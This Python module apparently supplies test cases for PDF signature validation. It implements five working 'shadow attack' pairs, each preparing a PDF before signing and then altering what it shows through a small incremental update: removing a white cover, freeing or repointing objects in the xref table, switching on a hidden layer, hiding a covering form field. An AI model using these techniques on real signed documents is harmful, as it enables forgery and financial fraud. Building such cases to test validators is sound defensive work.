"""Shadow attacks (すり替えの仕掛け): prepared before signing, sprung by an update that changes almost nothing."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pikepdf import Array, Dictionary, Name, Pdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

N = generic.NameObject
_BLANK = b"q 1 g 50 630 400 60 re f Q"
_EVIL = b"BT /F1 14 Tf 60 650 Td (and 9,000,000 yen more) Tj ET"


def covered_price(pdf: Pdf) -> None:
    """Hide: text that lies under a white form, which the attacker takes away later."""
    page = pdf.pages[0]
    page.contents_add(pdf.make_stream(_EVIL))
    form = pdf.make_stream(_BLANK, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 595, 842])
    page.obj.Resources.XObject = pdf.make_indirect(Dictionary(Cover=pdf.make_indirect(form)))
    page.contents_add(pdf.make_stream(b"/Cover Do"))


def uncover(content: bytes) -> bytes:
    """The white form gives way to nothing."""
    writer = IncrementalPdfFileWriter(io.BytesIO(content), strict=False)
    forms = writer.root["/Pages"]["/Kids"][0]["/Resources"]["/XObject"]
    reference = forms.raw_get("/Cover")
    empty = generic.StreamObject(stream_data=b"")
    for key, value in (("/Type", "/XObject"), ("/Subtype", "/Form")):
        empty[N(key)] = N(value)
    empty[N("/BBox")] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 0, 0)))
    writer.objects[(reference.generation, reference.idnum)] = empty
    return _written(writer)


def free_cover(content: bytes) -> bytes:
    """The white form's object is declared free in the table, nothing else."""
    number = _number(content, "/Cover")
    return _table_only(content, f"{number} 1\n0000000000 00001 f \n")


def unused_content(pdf: Pdf) -> None:
    """Hide and replace: other content lies in the file and nothing refers to it."""
    pdf.Root.PieceInfo = Dictionary(Spare=pdf.make_indirect(pdf.make_stream(_EVIL)))


def point_to_unused(content: bytes) -> bytes:
    """A table alone: the page's content number now leads to the other object's place."""
    with Pdf.open(io.BytesIO(content)) as pdf:
        spare = pdf.Root.PieceInfo.Spare.objgen[0]
        contents = pdf.pages[0].obj.Contents
        page = (contents[0] if isinstance(contents, Array) else contents).objgen[0]
    at = re.search(rb"(?<!\d)%d 0 obj" % spare, content).start()
    return _table_only(content, f"{page} 1\n{at:010d} 00000 n \n")


def dangling_content(pdf: Pdf) -> None:
    """A reference into nothing among the page's contents. The number is free, so the writer leaves it null."""
    page = pdf.pages[0]
    old = page.obj.Contents
    page.obj.Contents = Array([*(old if isinstance(old, Array) else [old]), pdf.make_indirect(None)])


def layered_price(pdf: Pdf) -> None:
    """A layer that is switched off when the file is signed."""
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="evil"))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(OFF=Array([group]), Order=Array()))
    page = pdf.pages[0]
    page.obj.Resources.Properties = Dictionary(Evil=group)
    page.contents_add(pdf.make_stream(b"/OC /Evil BDC " + _EVIL + b" EMC"))


def switch_layer_on(content: bytes) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(content), strict=False)
    writer.root["/OCProperties"]["/D"][N("/OFF")] = generic.ArrayObject()
    raw = writer.root.raw_get("/OCProperties")
    if isinstance(raw, generic.IndirectObject):
        writer.mark_update(raw)
    writer.update_root()
    return _written(writer)


def hidden_field(pdf: Pdf) -> None:
    """A form field that lies over the price and shows another."""
    look = pdf.make_stream(
        b"1 g 0 0 345 25 re f 0 g BT /Helv 14 Tf 5 8 Td (The price is 9 yen) Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=[0, 0, 345, 25],
    )
    look.Resources = Dictionary(Font=pdf.Root.AcroForm.DR.Font)
    page = pdf.pages[0]
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="cover",
            F=4,
            Rect=Array([55, 710, 400, 735]),
            P=page.obj,
            AP=Dictionary(N=look),
        )
    )
    page.obj.Annots.append(field)
    pdf.Root.AcroForm.Fields.append(field)


def hide_field(content: bytes) -> bytes:
    """The covering field is set to be hidden; its value stays."""
    writer = IncrementalPdfFileWriter(io.BytesIO(content), strict=False)
    for raw in writer.root["/AcroForm"]["/Fields"]:
        if raw.get_object().get("/T") == "cover":
            raw.get_object()[N("/F")] = generic.NumberObject(2)
            writer.mark_update(raw)
    return _written(writer)


SHADOWS: tuple[tuple[Callable[[Pdf], None], Callable[[bytes], bytes]], ...] = (
    (covered_price, uncover),
    (covered_price, free_cover),
    (unused_content, point_to_unused),
    (layered_price, switch_layer_on),
    (hidden_field, hide_field),
)

PREPARED = (layered_price, hidden_field)
"""What a careful reader can see already when the file is signed."""


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def _number(content: bytes, name: str) -> int:
    with Pdf.open(io.BytesIO(content)) as pdf:
        return pdf.pages[0].obj.Resources.XObject[name].objgen[0]


def _table_only(content: bytes, lines: str) -> bytes:
    """An update that is nothing but a cross-reference table."""
    size = max(int(number) for number in re.findall(rb"/Size (\d+)", content))
    root = re.findall(rb"/Root (\d+ \d+ R)", content)[-1].decode()
    previous = re.findall(rb"startxref\s+(\d+)", content)[-1].decode()
    table = f"xref\n{lines}trailer\n<</Size {size} /Root {root} /Prev {previous}>>\n"
    return content + b"\n" + table.encode() + f"startxref\n{len(content) + 1}\n%%EOF\n".encode()
